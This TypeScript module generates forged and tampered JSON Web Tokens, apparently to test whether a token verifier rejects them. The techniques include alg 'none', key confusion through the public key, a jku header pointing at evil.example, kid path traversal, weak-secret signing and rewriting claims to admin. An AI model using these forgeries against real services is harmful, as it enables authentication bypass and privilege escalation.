import { constants, createHmac, generateKeyPairSync, type KeyObject, sign } from 'node:crypto'

/** What is known of the tokens that a door takes, from outside. */
export interface Model {
  readonly header: Readonly<Record<string, unknown>>
  /** Claims of a token that would be let in. */
  readonly claims: Readonly<Record<string, unknown>>
  /** The issuer's keys, as everybody may have them. */
  readonly publicKeys: readonly KeyObject[]
}

/** A token, and what is wrong with it. */
export interface Forgery {
  readonly what: string
  readonly token: string
}

const part = (value: unknown) => Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url')

let stranger: { readonly privateKey: KeyObject; readonly publicKey: KeyObject } | undefined

/** A key that nobody trusts, made once: it takes a while. */
function strangersKey() {
  stranger ??= generateKeyPairSync('rsa', { modulusLength: 2048 })
  return stranger
}

/** A token signed with a key that nobody trusts. */
export function strangersToken(header: unknown, claims: unknown): string {
  const input = `${part(header)}.${part(claims)}`
  return `${input}.${sign('sha256', Buffer.from(input), { key: strangersKey().privateKey, padding: constants.RSA_PKCS1_PADDING }).toString('base64url')}`
}

function keyed(header: Readonly<Record<string, unknown>>, claims: unknown, key: string | Buffer): string {
  const input = `${part({ ...header, alg: 'HS256' })}.${part(claims)}`
  return `${input}.${createHmac('sha256', key).update(input).digest('base64url')}`
}

/** Secrets that stand in tutorials. */
const WEAK = ['', 'secret', 'password', 'changeme', 'your-256-bit-secret', 'shhhhh', 'key', 'test', 'jwt_secret']

/** Tokens that say all that is asked for, and that no issuer has made. */
export function forgeries({ header, claims, publicKeys }: Model): Forgery[] {
  const unsigned = (alg: string, tail = '') => `${part({ ...header, alg })}.${part(claims)}.${tail}`
  const foreign = strangersToken(header, claims)
  const [h, p, s = ''] = foreign.split('.')
  const jwk = { ...strangersKey().publicKey.export({ format: 'jwk' }), kid: header['kid'], alg: 'RS256', use: 'sig' }
  return [
    { what: 'a token signed by a stranger', token: foreign },
    { what: 'a token that brings its own key', token: strangersToken({ ...header, jwk }, claims) },
    { what: 'a token that says where its keys are', token: strangersToken({ ...header, jku: 'https://evil.example/jwks.json' }, claims) },
    { what: 'a token of a key that nobody has', token: strangersToken({ ...header, kid: '../../../../dev/null' }, claims) },
    { what: 'a token of another issuer', token: strangersToken(header, { ...claims, iss: 'https://evil.example/' }) },
    { what: 'a token with alg none', token: unsigned('none') },
    { what: 'a token with alg None', token: unsigned('None') },
    { what: 'a token with alg NONE', token: unsigned('NONE') },
    { what: 'a token with alg none, and a signature', token: unsigned('none', s) },
    { what: 'a token with no alg', token: `${part({ typ: 'JWT' })}.${part(claims)}.` },
    { what: 'a token without its signature', token: `${h}.${p}.` },
    { what: 'a token of two parts', token: `${h}.${p}` },
    { what: 'a token with an ECDSA signature of zeros', token: unsigned('ES256', part('\0'.repeat(64))) },
    { what: 'a token of the key /dev/null', token: keyed({ ...header, kid: '../../../../../../dev/null' }, claims, '') },
    ...publicKeys.flatMap((key) => [
      { what: 'a token with HS256, by the public key', token: keyed(header, claims, key.export({ type: 'spki', format: 'pem' })) },
      { what: 'a token with HS256, by the modulus', token: keyed(header, claims, String(key.export({ format: 'jwk' }).n ?? '')) },
    ]),
    ...WEAK.map((secret) => ({ what: `a token with HS256, by the secret '${secret}'`, token: keyed(header, claims, secret) })),
  ]
}

/** What can be done to a good token. */
export function damages(token: string): Forgery[] {
  const [h = '', p = '', s = ''] = token.split('.')
  const claims = JSON.parse(Buffer.from(p, 'base64url').toString()) as Record<string, unknown>
  const boss = part({ ...claims, sub: 'admin', 'cognito:groups': ['admin'] })
  return [
    { what: 'a token whose claims were exchanged', token: `${h}.${boss}.${s}` },
    { what: 'a token with a bit turned', token: `${h}.${p}.${(s[0] === 'A' ? 'B' : 'A') + s.slice(1)}` },
    { what: 'a token that was cut off', token: token.slice(0, -8) },
    { what: 'a token with alg none over its signature', token: `${part({ ...headerOf(h), alg: 'none' })}.${p}.${s}` },
  ]
}

/** The header of a token, from its first part. */
export function headerOf(part: string): Record<string, unknown> {
  return JSON.parse(Buffer.from(part.split('.')[0] ?? '', 'base64url').toString()) as Record<string, unknown>
}
